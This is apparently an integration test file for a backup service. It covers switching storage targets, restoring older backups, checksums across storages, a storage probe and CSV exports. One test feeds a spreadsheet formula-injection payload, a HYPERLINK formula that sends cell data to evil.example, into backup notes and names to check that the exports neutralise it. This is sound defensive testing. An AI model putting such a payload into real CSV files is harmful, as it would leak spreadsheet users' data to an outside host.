#!/usr/bin/python3
"""storage_test.py: several storages, changed under a plan and tested by a probe; the lists as CSV."""
import contextlib
import csv
import io
import os
import sqlite3
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import Instance, main, test  # noqa: E402
from places import restore  # noqa: E402
from shop import LIVE, ROWS, make_sqlite  # noqa: E402

SLUGS = ("sqlite", "media")
STARTS = ("=", "+", "-", "@")
seen = {}


class Storages(Instance):
    """shop/live with a database and a folder, on a schedule, and storages beside `main`."""

    def __enter__(self):
        super().__enter__()
        self.content = self.home + "/content"
        os.makedirs(self.content + "/media/sub")
        make_sqlite(self.content + "/shop.sqlite")
        self.write("as it was")
        self.add_project("shop")
        self.add_environment("shop", "live")
        self.add_service(LIVE, "sqlite", "sqlite", path=self.content + "/shop.sqlite")
        self.add_service(LIVE, "media", "files", roots=self.content + "/media")
        self.must(self.browser.submit(self.browser.get(f"/p/{LIVE}/schedule").form("/usual"), f"/p/{LIVE}/schedule"))
        return self

    def write(self, words):
        """Both services say `words` from now on."""
        with open(self.content + "/media/sub/words", "w") as f:
            f.write(words)
        with contextlib.closing(sqlite3.connect(self.content + "/shop.sqlite")) as db:
            db.execute("UPDATE customer SET name = ? WHERE id = 1", (words,))
            db.commit()

    def words(self):
        with contextlib.closing(sqlite3.connect(self.content + "/shop.sqlite")) as db:
            name, count = db.execute("SELECT (SELECT name FROM customer WHERE id = 1), count(*) FROM customer").fetchone()
        assert count == ROWS
        with open(self.content + "/media/sub/words") as f:
            assert f.read() == name
        return name

    def add_storage(self, slug):
        """There is no page that adds one; `lazarette admin init` makes `main` alone."""
        path = f"{self.home}/store-{slug}"
        os.makedirs(path)
        with contextlib.closing(sqlite3.connect(self.home + "/catalog.db", timeout=60)) as db:
            db.execute("INSERT INTO storage (slug, uuid, kind, path, created_at) VALUES (?, 'u-' || ?, 'local', ?, 1)",
                       (slug, slug, path))
            db.commit()
        return path

    def policy(self, base, value=None):
        """Through the page of policies; None: what is inherited."""
        page = self.must(self.browser.get(base + "/policies")).page
        form = next(f for f in page.forms if f.value("policy") == "storage")
        if value is not None:
            form.fill(value=value)
        return self.browser.submit(form, base + "/policies", button=("do", "inherit" if value is None else "save"))

    def run_plan(self):
        """Run now; gives the backup's row once it is ready."""
        self.must(self.browser.submit(self.browser.get("/plans").form("/run"), "/plans"))
        self.wait_job(self.sql1("SELECT max(id) FROM job WHERE kind = 'backup'"), "succeeded")
        return self.sql("SELECT b.*, s.slug, s.path FROM backup b JOIN storage s ON s.id = b.storage ORDER BY b.id DESC")[0]

    def keys(self, backup):
        return [r["data_key"] for r in self.sql("SELECT data_key FROM part WHERE backup = ?", backup)]

    def lies_in(self, backup, path):
        return [os.path.exists(f"{path}/{key}") for key in self.keys(backup)] == [True] * len(SLUGS)


def listed(s, *numbers):
    text = s.must(s.browser.get(f"/p/{LIVE}/backups")).text
    return all(f'href="/b/b{n}/restore"' in text or f'href="/b/b{n}#restore"' in text for n in numbers)


@test("SCU-12", "a plan's storage is changed: the next run lands in the new one, and the older backup comes back from the old")
def changed(s):
    first = s.run_plan()
    assert first["slug"] == "main" and s.lies_in(first["id"], s.home + "/store")
    path = s.add_storage("second")
    s.must(s.policy(f"/p/{LIVE}", "second"))
    s.write("as it became")
    second = s.run_plan()
    assert second["slug"] == "second" and s.lies_in(second["id"], path), second
    # The control: it went nowhere else, and the old one did not move.
    assert not s.lies_in(second["id"], s.home + "/store") and not s.lies_in(first["id"], path)
    assert s.lies_in(first["id"], s.home + "/store")
    assert "Into second" in s.browser.get("/plans").words
    assert listed(s, first["id"], second["id"])
    assert s.words() == "as it became"
    restore(s, first["id"], slugs=SLUGS)
    assert s.words() == "as it was"
    seen.update(first=first["id"], second=second["id"])


@test("SCU-12", "the instance's default is changed: the next run follows it, and both older places still give back")
def default_changed(s):
    path = s.add_storage("third")
    s.must(s.policy("", "third"))
    assert s.run_plan()["slug"] == "second", "the nearest setting holds"
    s.must(s.policy(f"/p/{LIVE}"))
    third = s.run_plan()
    assert third["slug"] == "third" and s.lies_in(third["id"], path), third
    assert listed(s, seen["first"], seen["second"], third["id"])
    restore(s, seen["second"], slugs=SLUGS)
    assert s.words() == "as it became"
    restore(s, seen["first"], slugs=SLUGS)
    assert s.words() == "as it was"
    s.doctor()


# S3 comes later, and this is for it too: then the second storage is a bucket. A dump of PostgreSQL is left out, for
# pg_dump writes the time of day into it, and so is the list of a folder's files, which tells when it was made: two of
# them are never equal, whatever storage they go to.
@test("SCU-14", "one environment into two storages: the raw content of each part has the same sha256")
def equal(s):
    sums = {}
    for slug in ("main", "second"):
        s.must(s.policy(f"/p/{LIVE}", slug))
        backup = s.run_plan()
        assert backup["slug"] == slug
        sums[slug] = s.sql("SELECT service_slug, data_raw_sha256 FROM part WHERE backup = ? ORDER BY service_slug",
                           backup["id"])
    assert sums["main"] == sums["second"] and all(len(r["data_raw_sha256"]) == 64 for r in sums["main"]), sums
    # The control: another content gives other sums.
    s.write("something else")
    other = s.run_plan()
    rows = s.sql("SELECT data_raw_sha256 FROM part WHERE backup = ? ORDER BY service_slug", other["id"])
    assert all(a["data_raw_sha256"] != b["data_raw_sha256"] for a, b in zip(rows, sums["second"])), rows


@test("CYC-2", "a storage that is not there is refused with the way to those that are; a test writes, reads and removes a probe")
def probe(s):
    refused = s.browser.post(f"/p/{LIVE}/policies", {
        "csrf": s.must(s.browser.get(f"/p/{LIVE}/policies")).form("/policies").value("csrf"),
        "policy": "storage", "value": "nowhere", "do": "save"})
    assert refused.status == 422 and "There is no storage nowhere" in refused.words, refused.words[:400]
    assert "/storage" in refused.page.links
    path = s.home + "/store-third"
    before = sorted(os.listdir(path))
    page = "/storage/third"
    s.must(s.browser.submit(s.must(s.browser.get(page)).form("/test"), page))
    s.wait_job(s.sql1("SELECT max(id) FROM job WHERE kind = 'check'"), "succeeded")
    assert sorted(os.listdir(path)) == before
    assert "Done" in s.browser.get(page).words
    log = s.sql1("SELECT group_concat(text) FROM job_log WHERE job = (SELECT max(id) FROM job WHERE kind = 'check')")
    assert "was written, read back and removed" in log, log
    # The control: the same test of a disk that is away fails, and says why.
    os.rename(path, path + ".away")
    s.must(s.browser.submit(s.must(s.browser.get(page)).form("/test"), page))
    s.wait_job(s.sql1("SELECT max(id) FROM job WHERE kind = 'check'"), "failed")
    assert "The last test failed. storage *third* is not there" in s.browser.get(page).words, s.browser.get(page).words[:600]
    os.rename(path + ".away", path)
    s.doctor()


def read(s, path):
    """The rows as dictionaries, read by somebody else's reader."""
    answer = s.must(s.browser.get(path))
    assert answer.header("content-type") == "text/csv; charset=utf-8", answer.headers
    assert answer.header("cache-control") == "no-store"
    assert answer.header("content-disposition").startswith("attachment; filename="), answer.headers
    rows = list(csv.DictReader(io.StringIO(answer.body.decode("utf-8"), newline=""), strict=True))
    assert all(None not in r and None not in r.values() for r in rows), rows
    assert not [v for r in rows for v in r.values() if v.startswith((*STARTS, "\t", "\r", "\n"))], rows
    return rows


@test("T49", "notes and names that a spreadsheet would compute come out of the CSV as text, read by Python's csv")
def no_formula(s):
    notes = [c + 'HYPERLINK("http://evil.example/?x="&A1,"Click, please")\nsecond "line"' for c in STARTS]
    for note in notes:
        s.backup(LIVE, ["media"], note)
    s.add_environment("shop", "odd", "development", name="=1+1")
    form = s.must(s.browser.get(f"/p/{LIVE}/schedule/new")).form(field="cron")
    s.must(s.browser.submit(form.fill(name="@SUM(A1:A9)", every="day", time="03:00"), f"/p/{LIVE}/schedule/new"))
    rows = read(s, f"/p/{LIVE}/backups.csv?q=HYPERLINK")
    assert [r["Note"].replace("\r\n", "\n") for r in rows] == ["'" + n for n in reversed(notes)], rows
    assert "'@SUM(A1:A9)" in [r["Name"] for r in read(s, "/plans.csv")]
    assert "'=1+1" in [r["Name"] for r in read(s, "/environments.csv")]
    # The control: Python's own writer lets each of them through.
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([n] for n in notes)
    assert all(r[0].startswith(STARTS) for r in csv.reader(io.StringIO(out.getvalue(), newline="")))


@test("T49", "the CSV has each backup the pages list, with its exact bytes, for whoever is signed in and nobody else")
def whole_list(s):
    rows = read(s, f"/p/{LIVE}/backups.csv")
    there = s.sql("SELECT id, stored_bytes FROM backup WHERE state NOT IN ('trashed', 'deleted') ORDER BY created_at DESC, id DESC")
    assert [(r["Backup"], r["Stored bytes"]) for r in rows] == [(f"b{b['id']}", str(b["stored_bytes"])) for b in there]
    assert {r["Storage"] for r in rows} == {"main", "second", "third"}
    for path in (f"/p/{LIVE}/backups.csv", "/plans.csv", "/environments.csv"):
        guest = s.browser.request("GET", path, headers={"Cookie": None})
        assert guest.status == 303 and "/login" in guest.header("location"), (path, guest.status)
        assert path.split("/")[-1] in s.must(s.browser.get({"/environments.csv": "/", "/plans.csv": "/plans"}.get(
            path, f"/p/{LIVE}/backups"))).text


if __name__ == "__main__":
    main(Storages)
